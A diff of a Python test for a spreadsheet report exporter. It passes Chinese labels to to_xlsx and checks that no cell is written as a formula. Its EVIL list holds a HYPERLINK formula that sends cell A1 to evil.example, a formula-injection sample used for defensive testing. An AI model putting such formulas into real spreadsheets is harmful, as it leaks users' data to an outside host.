@@ -14,6 +14,7 @@ from cases.report import to_xlsx
 from db.cells import FORMULA_START, csv_value, xlsx_row
 from registers.tabular import FileProblem, read_table, write_table
 from tests.words import english
+from web.templating import labels
 
 EVIL = [
     '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
@@ -84,7 +85,7 @@ def test_the_monthly_report_workbook_holds_no_formula() -> None:
         "units": [figures | {"unit": "=1+1", "sign_in_on_time_rate": 1.0}],
         "gridworkers": [], "overdue_cases": [],
     }  # fmt: skip
-    cells = _cells(to_xlsx(report, "Asia/Shanghai"))
+    cells = _cells(to_xlsx(report, "Asia/Shanghai", labels("zh")))
     assert "f" not in {kind for kind, _ in cells}
     assert EVIL[0] in {value for _, value in cells}  # written as typed, as text
 
